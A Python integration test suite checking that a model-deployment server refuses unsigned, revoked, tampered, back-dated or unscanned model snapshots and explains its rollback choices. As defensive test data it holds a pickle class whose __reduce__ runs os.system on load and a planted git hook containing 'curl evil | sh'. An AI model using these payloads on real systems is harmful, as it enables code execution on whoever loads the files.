"""Trust policies on a real API server: what they refuse is not deployed and not gone back to, and it says why."""

import os
import pickle

import pytest

from tests.integration.signing import (
    Signer,
    claims,
    config_map,
    date,
    files_of,
    going_anywhere,
    policy,
    reference,
    says,
    serve_signed,
    signed,
    told,
    write,
)
from tests.integration.world import World

RELEASE = Signer(name="release")
MALLORY = Signer(name="mallory")
SECOND = Signer(name="second")
POISONED = "2026-02-15T00:00:00Z"


class Canary:
    """What runs its payload where it is unpickled."""

    def __init__(self, command: str) -> None:
        self.command = command

    def __reduce__(self) -> tuple[object, tuple[str]]:
        return os.system, (self.command,)


def test_where_every_snapshot_is_poisoned_nothing_is_deployed_and_the_record_says_why(world: World) -> None:
    fired = world.store.parent / "fired"
    write(world, "pickled", "data.pkl", pickle.dumps(Canary(f"touch {fired}")))
    world.apply(
        world.snapshot("nobody"),
        *signed(world, "stranger", MALLORY),
        *signed(world, "revoked", RELEASE),
        *signed(world, "pickled", RELEASE),
        *signed(world, "tampered", RELEASE),
    )
    serve_signed(world, "serving", RELEASE)
    going_anywhere(world)
    revoked = [{"digest": world.weights("revoked"), "reason": "INC-1: backdoor"}]
    world.apply(policy(world, RELEASE.entry(), revokedDigests=revoked, scan={"required": True}))
    says(world, "nobody", "Ready", "SignatureMissing")
    says(world, "stranger", "Ready", "SignatureUntrusted")
    says(world, "revoked", "Ready", "DigestRevoked")
    says(world, "pickled", "Ready", "ScanFinding")
    says(world, "tampered", "Ready", "Verified")
    world.weights("tampered", "these weights have a backdoor")
    before = world.generation()
    world.annotate("modeldeployment/digits", "rollback", "it looks wrong")
    record = world.rollback()

    assert record["status"]["outcome"] == "Failed"
    assert record["status"]["outcomeReason"] == "NoKnownGood"
    assert world.candidates(record) == {
        "digits-vnobody": "SignatureMissing",
        "digits-vstranger": "SignatureUntrusted",
        "digits-vrevoked": "DigestRevoked",
        "digits-vpickled": "ScanFinding",
        "digits-vtampered": "DigestMismatch",
        "digits-vserving": "BeingLeft",
    }
    assert "INC-1: backdoor" in told(record, "revoked")
    assert "data.pkl" in told(record, "pickled")
    world.becomes("KnownGoodAvailable", "False")
    world.event("NoKnownGood")
    alerts = [item for item in world.list("event") if item["reason"] == "NoKnownGood"]
    of_deployment = [item for item in alerts if item["involvedObject"]["kind"] == "ModelDeployment"]
    assert [(item["involvedObject"]["name"], item["type"]) for item in of_deployment] == [("digits", "Warning")]
    assert (world.generation(), world.model_path()) == (before, "/models/digits/serving")
    assert not fired.exists(), "nothing was unpickled"


def test_a_rollback_to_before_a_poisoning_goes_by_the_date_of_the_data(world: World) -> None:
    for version, cutoff in ((1, "2026-01-01"), (2, "2026-03-01"), (3, "2026-04-01")):
        world.apply(world.snapshot(version, dataCutoff=f"{cutoff}T00:00:00Z"))
        world.apply(world.workload(), world.deployment(f"digits-v{version}"))
        world.served(f"digits-v{version}")
    world.request("poisoned", before=POISONED)
    record = world.ended("poisoned")

    assert record["status"]["outcome"] == "Succeeded"
    assert world.candidates(record) == {"digits-v1": "Chosen", "digits-v2": "NotBeforeDate", "digits-v3": "BeingLeft"}
    assert "2026-03-01" in told(record, 2)
    assert world.model_path() == "/models/digits/1"


def test_a_back_dated_manifest_is_no_date_where_signatures_are_required(world: World) -> None:
    world.apply(policy(world, RELEASE.entry()))
    backdated = "2026-01-01T00:00:00Z"
    late, early = claims("late", data_cutoff="2026-03-01"), claims("early", data_cutoff="2026-01-01")
    world.apply(
        *signed(world, "late", RELEASE, about=late, dataCutoff=backdated),
        *signed(world, "undated", RELEASE, about=claims("undated"), dataCutoff=backdated),
        *signed(world, "bare", RELEASE, dataCutoff=backdated),
        *signed(world, "early", RELEASE, about=early),
    )
    serve_signed(world, "serving", RELEASE, about=claims("serving", data_cutoff="2026-04-01"))
    going_anywhere(world)
    world.request("poisoned", before=POISONED)
    record = world.ended("poisoned")

    assert record["status"]["outcome"] == "Succeeded"
    assert world.candidates(record) == {
        "digits-vlate": "ClaimsMismatch",
        "digits-vundated": "DateNotSigned",
        "digits-vbare": "DateNotSigned",
        "digits-vearly": "Chosen",
        "digits-vserving": "BeingLeft",
    }
    assert "2026-03-01" in told(record, "late"), "it says what was signed"
    assert world.model_path() == "/models/digits/early"


def test_a_bundle_of_another_model_or_version_does_not_count(world: World) -> None:
    world.apply(policy(world, RELEASE.entry()))
    world.apply(*signed(world, 1, RELEASE, about=claims(1, model="letters")))
    world.apply(*signed(world, 2, RELEASE, about=claims(1)))

    assert "letters" in says(world, 1, "Ready", "ClaimsMismatch")["message"]
    assert "spec.version" in says(world, 2, "Ready", "ClaimsMismatch")["message"]


def test_two_signers_are_two_keys_one_in_a_config_map_and_one_inside_the_source(world: World) -> None:
    world.apply(policy(world, RELEASE.entry(), SECOND.entry(), signatures={"threshold": 2}))
    inside(world, "both", SECOND)
    inside(world, "twice", RELEASE)
    for version in ("both", "twice"):
        bundle = RELEASE.bundle(files_of(world, version))
        signatures = [reference(f"bundle-{version}"), {"path": "model.sig"}]
        world.apply(config_map(f"bundle-{version}", bundle=bundle), world.snapshot(version, signatures=signatures))
    world.apply(*signed(world, "one", SECOND), world.workload(), world.deployment("digits-vboth"))

    assert says(world, "both", "Signed", "SignatureTrusted")["status"] == "True"
    assert says(world, "twice", "Ready", "TooFewSignatures")["message"].endswith("signed only by release")
    assert "1 of 2" in says(world, "one", "Ready", "TooFewSignatures")["message"]
    world.served("digits-vboth")


def inside(world: World, version: int | str, signer: Signer) -> None:
    """Sign a checkpoint, and put the bundle into it."""
    write(world, version, "model.sig", signer.bundle(files_of(world, version), ignored=("model.sig",)).encode())


def test_model_weights_declared_as_a_signature_are_not_exempt(world: World) -> None:
    world.apply(policy(world, RELEASE.entry()))
    inside(world, 1, RELEASE)
    write(world, 1, "model.safetensors", b"backdoor")
    declared = [{"path": "model.sig"}, {"path": "model.safetensors"}]
    world.apply(world.snapshot(1, signatures=declared), world.workload(), world.deployment("digits-v1"))

    assert "model.safetensors is extra" in says(world, 1, "Ready", "SignatureInvalid")["message"]
    world.ready("SignatureInvalid")
    assert world.generation() == 1


def test_signature_beside_another_counts_until_its_key_is_revoked(world: World) -> None:
    world.apply(policy(world, RELEASE.entry(), SECOND.entry()))
    inside(world, 1, RELEASE)
    write(world, 1, "second.sig", SECOND.bundle(files_of(world, 1)).encode())
    world.apply(world.snapshot(1, signatures=[{"path": "model.sig"}, {"path": "second.sig"}]))
    assert says(world, 1, "Signed", "SignatureTrusted")["message"].startswith("signed by release, second")

    revoked = SECOND.entry(revokedAt="2026-01-01T00:00:00Z")
    world.apply(policy(world, RELEASE.entry(), revoked))
    assert says(world, 1, "Ready", "KeyRevoked", within=10)["status"] == "False"


def test_a_payload_in_what_a_bundle_leaves_out_is_refused_unless_the_policy_allows_it(world: World) -> None:
    world.apply(policy(world, RELEASE.entry()))
    bundle = RELEASE.bundle(files_of(world, 1), ignored=(".git",))
    write(world, 1, ".git/hooks/post-checkout", b"curl evil | sh")
    world.apply(config_map("bundle", bundle=bundle), world.snapshot(1, signatures=[reference("bundle")]))
    assert ".git/hooks/post-checkout" in says(world, 1, "Ready", "FilesLeftOut")["message"]

    world.apply(policy(world, RELEASE.entry(), signatures={"allowLeftOut": True}))
    assert says(world, 1, "Ready", "Verified", within=10)["status"] == "True"


@pytest.mark.parametrize(
    ("data", "sentence"),
    [(None, "there is no ConfigMap bundle"), ({"other": ""}, "no such key"), ({"bundle": "{}"}, "")],
    ids=["missing", "without the key", "garbage"],
)
def test_a_bundle_that_is_not_there_or_is_garbage_is_no_signature(
    world: World, data: dict[str, str] | None, sentence: str
) -> None:
    world.apply(policy(world, RELEASE.entry()), *([] if data is None else [config_map("bundle", **data)]))
    world.apply(world.snapshot(1, signatures=[reference("bundle")]), world.workload(), world.deployment("digits-v1"))
    reason = "SignatureInvalid" if data == {"bundle": "{}"} else "SignatureMissing"

    assert sentence in says(world, 1, "Ready", reason)["message"]
    world.ready(reason)
    assert world.generation() == 1


def test_a_model_below_the_floor_or_of_a_format_that_is_not_allowed_is_not_deployed(world: World) -> None:
    world.apply(
        policy(world, name="floor", floor={"dataCutoff": POISONED}),
        policy(world, name="formats", models=["letters"], formats={"allowed": ["safetensors"]}),
    )
    world.apply(
        world.snapshot("old", dataCutoff="2026-01-01T00:00:00Z"),
        world.snapshot("undated"),
        world.snapshot("new", dataCutoff="2026-03-01T00:00:00Z"),
        world.snapshot("letters", model="letters", dataCutoff="2026-03-01T00:00:00Z"),
    )
    assert date("2026-01-01").isoformat() in says(world, "old", "Ready", "BelowFloor")["message"]
    says(world, "undated", "Ready", "BelowFloor")
    says(world, "new", "Ready", "Verified")
    assert "text" in says(world, "letters", "Ready", "FormatRefused")["message"]
